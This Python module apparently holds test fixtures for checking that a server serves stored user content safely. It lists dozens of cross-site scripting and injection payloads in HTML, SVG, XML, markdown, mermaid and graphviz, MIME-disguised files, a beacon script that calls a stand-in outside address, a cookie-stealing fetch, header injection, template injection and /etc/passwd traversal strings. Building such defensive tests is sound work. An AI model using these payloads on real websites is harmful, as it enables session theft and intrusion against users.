"""Stored values of somebody hostile: what each tries, if a browser lets it.

`{beacon}` in a body becomes a script that tells of itself in all ways there are, `{away}` an address
of somebody else's server.
"""

# ruff: noqa: E501 - an attack is read in one line
from __future__ import annotations

import io
from typing import NamedTuple

from browsing import films
from PIL import Image

BEACON = (
    "document.title='owned';try{parent.document.title='owned'}catch(e){}"
    "new Image().src='{away}';fetch('{away}',{mode:'no-cors'})"
)


class Attack(NamedTuple):
    """One value.

    Attributes:
        name: of it; the address that it asks for ends in it.
        content_type: of the mark that stored it.
        body: what it is.
        click: what somebody is brought to click, as a selector; it is in the value's own frame.
        bites: whether a browser that gets it from a server without any defence does its will.
    """

    name: str
    content_type: str
    body: str | bytes
    click: str | None = None
    bites: bool = True

    def armed(self, origin: str) -> bytes:
        """The bytes, with the address of somebody else's server in them."""
        away = f"{origin}/{self.name}"
        body = self.body if isinstance(self.body, bytes) else self.body.encode()
        script = BEACON.replace("{away}", away)
        return body.replace(b"{beacon}", script.encode()).replace(b"{away}", away.encode())


_HTML = "<!doctype html><title>hello</title><p>hello</p>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
_XSLT = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template '
    'match="/"><html><body><script>{beacon}</script></body></html></xsl:template></xsl:stylesheet>'
)


def _html(name: str, body: str, click: str | None = None, *, bites: bool = True) -> Attack:
    return Attack(name, "text/html", _HTML + body, click, bites)


def _svg(name: str, body: str, click: str | None = None, *, bites: bool = True) -> Attack:
    return Attack(name, "image/svg+xml", f"{_SVG}>{body}</svg>", click, bites)


def _gif_and_script() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue() + b";/*\n*/\n{beacon}//<script>{beacon}</script>"


PAGES = (
    _html("script", "<script>{beacon}</script>"),
    _html("handler", '<img src="data:," onerror="{beacon}">'),
    _html("onload", '<body onload="{beacon}">'),
    _html("svg-in-html", '<svg onload="{beacon}"></svg>'),
    _html("details", '<details open ontoggle="{beacon}">x</details>'),
    _html("refresh", '<meta http-equiv="refresh" content="0;url={away}">'),
    _html(
        "refresh-script",
        '<meta http-equiv="refresh" content="0;url=javascript:{beacon}">',
        bites=False,
    ),
    _html("form", '<form method="post" action="{away}"><button>Go on</button></form>', "button"),
    _html("focus", '<form action="{away}"><input autofocus onfocus="this.form.submit()"></form>'),
    _html(
        "picture", '<img src="{away}"><img srcset="{away}-2 2x"><input type="image" src="{away}-3">'
    ),
    _html("font", "<style>@font-face{font-family:f;src:url({away})}p{font-family:f}</style>"),
    _html("import", "<style>@import url({away});p{background:url({away}-2)}</style>"),
    _html("stylesheet", '<link rel="stylesheet" href="{away}">'),
    _html("frame", '<iframe src="{away}"></iframe>'),
    _html("frame-script", '<iframe srcdoc="&lt;script&gt;{beacon}&lt;/script&gt;"></iframe>'),
    _html("base", '<base href="{away}/"><img src="x"><script src="y"></script>'),
    _html("script-link", '<a id="go" href="javascript:{beacon}">Go on</a>', "#go"),
    _html(
        "prefetch",
        '<link rel="prefetch" href="{away}"><link rel="preload" as="image" href="{away}-2">',
    ),
    _html("object", '<object data="{away}"></object><embed src="{away}-2">'),
    _html("media", '<video src="{away}" poster="{away}-2"></video><audio src="{away}-3"></audio>'),
    _html("popup", '<script>open("{away}")</script>'),
    _html("above", '<a id="go" target="_top" href="{away}">Go on</a>', "#go"),
    _html(
        "worker",
        "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{away}')\"])))</script>",
    ),
    _html("module", '<script type="module">import "{away}"</script>'),
    _html("cookies", "<script>fetch('{away}?'+document.cookie+localStorage.length)</script>"),
    _html(
        "reading",
        "<script>fetch('/').then(r=>r.text()).then(t=>fetch('{away}?'+t.length))</script>",
    ),
    _html("ping", '<a id="go" ping="{away}" href="#x">Go on</a>', "#go"),
    Attack(
        "utf7", "text/html; charset=utf-7", "+ADw-script+AD4-{beacon}+ADw-/script+AD4-", bites=False
    ),
    Attack(
        "xhtml",
        "application/xhtml+xml",
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>{beacon}</script></html>',
    ),
)
"""HTML."""

DRAWINGS = (
    _svg("svg-script", "<script>{beacon}</script>"),
    Attack(
        "svg-onload",
        "image/svg+xml",
        _SVG + ' onload="{beacon}"><rect width="9" height="9"/></svg>',
    ),
    _svg(
        "svg-foreign",
        '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{away}"/></foreignObject>',
    ),
    _svg(
        "svg-image",
        '<image href="{away}" width="9" height="9"/><style>@import url({away}-2);</style>',
    ),
    _svg(
        "svg-link", '<a id="go" href="javascript:{beacon}"><rect width="9" height="9"/></a>', "#go"
    ),
    _svg(
        "svg-animate",
        '<image href="data:," onerror="{beacon}"/><animate onbegin="{beacon}" attributeName="x" dur="1s"/>',
    ),
    Attack(
        "svg-css", "image/svg+xml", f'<?xml-stylesheet href="{{away}}" type="text/css"?>{_SVG}/>'
    ),
    Attack(
        "svg-entity",
        "image/svg+xml",
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{{away}}">]>{_SVG}><text>&x;</text></svg>',
        bites=False,
    ),
    Attack(
        "xslt",
        "application/xml",
        f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{{away}}"?><x>{_XSLT}</x>',
        bites=False,
    ),
    Attack(
        "xml", "text/xml", '<x><script xmlns="http://www.w3.org/1999/xhtml">{beacon}</script></x>'
    ),
)
"""SVG and XML."""

_SENT = "text/html\r\n\r\n<script>{beacon}</script>"
DISGUISED = (
    Attack("gif-script", "image/gif", _gif_and_script(), bites=False),
    Attack("html-as-png", "image/png", "<html><script>{beacon}</script></html>", bites=False),
    Attack("html-as-text", "text/plain", "<html><script>{beacon}</script></html>", bites=False),
    Attack(
        "html-as-json",
        "application/json",
        '{"a": "</script><script>{beacon}</script>"}',
        bites=False,
    ),
    Attack(
        "html-as-csv",
        "text/csv",
        '"<script>{beacon}</script>",=cmd\n"<img src=x onerror=\'{beacon}\'>",1\n',
        bites=False,
    ),
    Attack("html-as-audio", "audio/wav", "<html><script>{beacon}</script></html>", bites=False),
    Attack(
        "html-as-anything",
        "application/x-anything",
        "<html><script>{beacon}</script></html>",
        bites=False,
    ),
    Attack(
        "pdf-html",
        "application/pdf",
        films.pdf("hello") + b"<html><script>{beacon}</script></html>",
        bites=False,
    ),
    Attack(
        "pdf-script",
        "application/pdf",
        films.pdf("hello").replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /URI /URI ({away}) >>"
        ),
        bites=False,
    ),
    Attack(
        "mixed",
        "multipart/x-mixed-replace; boundary=b",
        f"--b\r\nContent-Type: {_SENT}\r\n--b--\r\n",
        bites=False,
    ),
    Attack(
        "mhtml",
        "multipart/related; boundary=b",
        f"--b\r\nContent-Type: {_SENT}\r\n--b--\r\n",
        bites=False,
    ),
    Attack("script-file", "text/javascript", "{beacon}", bites=False),
    Attack("style-file", "text/css", "@import url({away});", bites=False),
)
"""What is something else than it says."""

WRITTEN = (
    Attack(
        "markdown-html",
        "text/markdown",
        '# hello\n\n<script>{beacon}</script>\n\n<img src=x onerror="{beacon}">',
        bites=False,
    ),
    Attack(
        "markdown-link",
        "text/markdown",
        "[Go on](javascript:{beacon}) <javascript:{beacon}>",
        "[href^=javascript]",
        bites=False,
    ),
    Attack(
        "markdown-picture", "text/markdown", "![x]({away}) ![y][z]\n\n[z]: {away}-2", bites=False
    ),
    Attack(
        "markdown-data",
        "text/markdown",
        "[x](data:text/html,<script>{beacon}</script>) <iframe src={away}>",
        bites=False,
    ),
    Attack(
        "mermaid-label",
        "text/vnd.mermaid",
        'flowchart LR\n a["<img src=x onerror={beacon}><script>{beacon}</script>"] --> b\n click a "javascript:{beacon}"\n click b href "{away}"',
        bites=False,
    ),
    Attack(
        "mermaid-set",
        "text/vnd.mermaid",
        '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url({away});"}}%%\nflowchart LR\n a["<iframe src={away}>"] --> b',
        bites=False,
    ),
    Attack(
        "graphviz-link",
        "text/vnd.graphviz",
        'digraph { a [URL="javascript:{beacon}", label=<<b>x</b>>, image="/etc/passwd"]; b [URL="{away}"]; a -> b }',
        bites=False,
    ),
)
"""What a page of ours is made of."""

ALL = (*PAGES, *DRAWINGS, *DISGUISED, *WRITTEN)

TEXTS = (
    "<script>{beacon}</script>",
    '"><img src=x onerror="{beacon}">',
    "'><svg onload='{beacon}'>",
    "</title></script></textarea><script>{beacon}</script>",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "javascript:{beacon}",
    "\u202egnp.exe\u2066\u200b\u2028",
    "\x1b[31mred\x1b]0;owned\x07\r\nSet-Cookie: owned=1\r\n\r\n<script>{beacon}</script>",
    "nul\x00behind",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie:%20owned=1",
    "?a=b&c=d#e/f;g",
    "x" * 100_000,
    " ",
)
"""Names, versions, tags, content types and arguments."""
